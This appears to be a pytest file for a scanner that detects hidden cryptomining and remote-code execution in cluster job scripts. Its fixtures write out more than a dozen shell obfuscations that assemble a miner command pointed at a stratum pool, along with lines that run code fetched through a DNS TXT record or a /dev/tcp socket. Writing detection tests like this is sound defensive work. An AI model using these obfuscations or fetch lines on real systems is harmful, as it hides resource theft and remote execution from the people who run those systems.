"""A command that a script puts together from pieces is read as a shell would expand it."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tocsin.workload.commands import command_lines
from tocsin.workload.signs.computed_kinds import ENDPOINT, HANDS_ON, RUNS
from tocsin.workload.signs.expansion import expanded_lines
from tocsin.workload.signs.look import signs

POOL = "stratum+tcp://10.1.2.3:3333"
PIECES = {
    "letters of an array": 'a=(s t r a t u m)\nIFS=\n./k -o "${a[*]}+tcp://10.1.2.3:3333" -u w',
    "words by index": "w=(tcp 10.1.2.3 stratum 3333)\n./k -o ${w[2]}+${w[0]}://${w[1]}:${w[3]} -u w",
    "functions that print": "s() { echo stra; }\nt() { echo tum; }\n./k -o $(s)$(t)+tcp://10.1.2.3:3333 -u w",
    "arguments of a function": "go() { eval \"$1$2\"; }\ngo './k -o stra' 'tum+tcp://10.1.2.3:3333 -u w'",
    "positional parameters": "set -- './k -o stra' 'tum+tcp://10.1.2.3:3333 -u w'\neval \"$1$2\"",
    "an associative array": "declare -A d=([a]='./k -o stra' [b]='tum+tcp://10.1.2.3:3333')\neval \"${d[a]}${d[b]}\"",
    "lines of a document": 'mapfile -t a <<E\n./k -o stra\ntum+tcp://10.1.2.3:3333\nE\neval "${a[0]}${a[1]}"',
    "a loop over names": "p='./k -o stra'\nq='tum+tcp://10.1.2.3:3333'\nfor i in p q; do c+=${!i}; done\n$c",
    "empty quotes": "./k -o str''atum+tcp://10.1.2.3:3333 -u w",
    "backslashes": "./k -o s\\tratum+tcp://10.1.2.3:3333 -u w",
    "braces": "./k -o {s,}tratum+tcp://10.1.2.3:3333 -u w",
    "escapes": "x=$'\\x73\\x74ratum+tcp://10.1.2.3:3333'\n./k -o $x -u w",
    "printf": "eval \"$(printf '%s%s' './k -o stra' 'tum+tcp://10.1.2.3:3333 -u w')\"",
    "swapped case": "x='./K -O STRATUM+TCP://10.1.2.3:3333'\neval \"${x~~}\"",
}
UNFOLLOWED = [
    'eval "$(dig +short txt x.example.org)"',
    'while read -r -n1 c; do s=$c$s; done <<< "$text"\neval "$s"',
    "python3 - <<E\nimport os\nos.system('./k -o {}'.format(a))\nE",
    "awk 'BEGIN { system(a b) }'",
    "exec 3<>/dev/tcp/203.0.113.9/80\nsource /dev/fd/3",
    "tr '#' 't' > notes <<E\ns#ra#um\nE\n. ./notes",
    "printf a > a\nprintf b > b\ncat a b > c\nsh c",
    "$(git tag -l -n1 v1)",
]
FOLLOWED = [
    'eval "$(conda shell.bash hook)"',
    "sed 's/@N@/128/' template.in > case.in\n./solver case.in",
    "$(which python) train.py",
    'cmd="srun ./wrf.exe"\neval "$cmd"',
]


@pytest.mark.parametrize("name", PIECES)
def test_pieces_are_put_together(name: str) -> None:
    lines = command_lines(PIECES[name])
    expanded = expanded_lines(lines, "\n".join(line for _, line in lines))
    assert any(POOL in line.lower() for _, line in expanded)
    assert "cryptomining" in {sign.operation for sign in signs(PIECES[name])}


@pytest.mark.parametrize("script", UNFOLLOWED)
def test_what_cannot_be_followed_is_an_open_sign(script: str) -> None:
    assert {RUNS, HANDS_ON, ENDPOINT} & {sign.kind for sign in signs(script)}


@pytest.mark.parametrize("script", FOLLOWED)
def test_what_every_job_does_is_none(script: str) -> None:
    assert signs(script) == []


def test_a_variable_without_a_name_is_no_error() -> None:
    signs("eval stra $x\nprintf -v ''\nprintf -v  ; $x")


@settings(deadline=None, max_examples=150)
@given(
    st.lists(
        st.sampled_from(
            [*"a1 $(){}[]'\"`\\;|&<>=#@*!:/,\n", "eval ", "stra", "x=(", "${x[", "for i in ", "printf -v "]
        ),
        max_size=60,
    )
)
def test_any_text_is_taken(parts: list[str]) -> None:
    text = "eval stra $x\n" + "".join(parts)
    lines = command_lines(text)
    expanded_lines(lines, "\n".join(line for _, line in lines))
    signs(text)
